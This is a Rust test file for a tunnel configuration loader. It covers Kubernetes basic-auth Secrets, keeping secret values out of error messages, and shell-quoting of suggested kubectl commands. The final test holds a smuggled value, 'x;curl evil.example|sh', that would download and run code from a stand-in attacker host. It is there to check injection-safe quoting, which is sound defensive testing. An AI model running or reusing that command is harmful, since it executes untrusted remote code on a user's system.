//! Secrets: which ones are users, and what is printed of them.

use super::*;

/// A tunnel of a file whose users are in a Secret of this type with these keys.
fn of_type(kind: &str, data: &str) -> Result<Lowered, ConfigErrors> {
    let text = format!(
        "services: [{{name: a, addr: ':1', handler: {{type: http, auther: u}}, listener: {{type: ws}}}}]\n\
         authers: [{{name: u, secretRef: {{name: s}}}}]\n---\n\
         apiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\n{kind}stringData: {data}\n"
    );
    files(&text)
}

fn users(lowered: &Lowered) -> Vec<(String, String)> {
    let HandlerConfig::Http(http) = &lowered.services[0].handler else { panic!() };
    let users = http.users.as_ref().unwrap().0.iter();
    users.map(|(name, password)| (name.clone(), password.expose().clone())).collect()
}

/// The one reason why nothing of it runs.
fn refusal(outcome: Result<Lowered, ConfigErrors>) -> String {
    let errors = outcome.unwrap_err().0;
    assert_eq!((errors.len(), errors[0].reason), (1, Reason::SecretInvalid), "{errors:?}");
    errors[0].to_string()
}

#[test]
fn a_basic_auth_secret_is_one_user_and_its_keys_are_none() {
    let kind = "type: kubernetes.io/basic-auth\n";
    let lowered = of_type(kind, "{username: admin, password: S3cret}").unwrap();
    assert_eq!(users(&lowered), [("admin".to_string(), "S3cret".to_string())]);
    // Operators add keys of their own, of which none is a user.
    let lowered = of_type(kind, "{username: admin, password: S3cret, host: db}").unwrap();
    assert_eq!(users(&lowered), [("admin".to_string(), "S3cret".to_string())]);
    for data in ["{username: admin}", "{password: S3cret}", "{username: admin, password: ''}"] {
        assert!(refusal(of_type(kind, data)).contains("password") || data.contains("S3cret"));
    }
}

#[test]
fn keys_username_and_password_of_another_type_are_neither_one_user_nor_two() {
    for kind in ["", "type: Opaque\n", "type: example.com/login\n"] {
        let message = refusal(of_type(kind, "{username: admin, password: S3cret}"));
        assert!(message.contains("kubernetes.io/basic-auth"), "{message}");
        assert!(!message.contains("S3cret"), "{message}");
    }
    for data in ["{username: a, password: b, carol: c}", "{password: b}", "{Username: a}"] {
        assert!(refusal(of_type("", data)).contains("--type=kubernetes.io/basic-auth"), "{data}");
    }
}

#[test]
fn a_certificate_is_no_list_of_users() {
    let message = refusal(of_type("type: kubernetes.io/tls\n", "{tls.crt: a, tls.key: b}"));
    assert!(message.contains("kubernetes.io/tls"), "{message}");
}

#[test]
fn a_line_to_copy_is_quoted_for_a_shell() {
    let text =
        "services: [{name: a, addr: ':1', handler: {type: http, auth: {secretRef: {name: s}}}}]";
    let documents = read(text).unwrap();
    let none = Secrets::default();
    let context = LowerContext::controller("x;curl evil.example|sh", &none, &[8080]);
    let lowered = lower(&documents.gost, &context).unwrap();
    let message = &lowered.references["a"].missing[0].message;
    assert!(message.contains("-n 'x;curl evil.example|sh' "), "{message}");
}
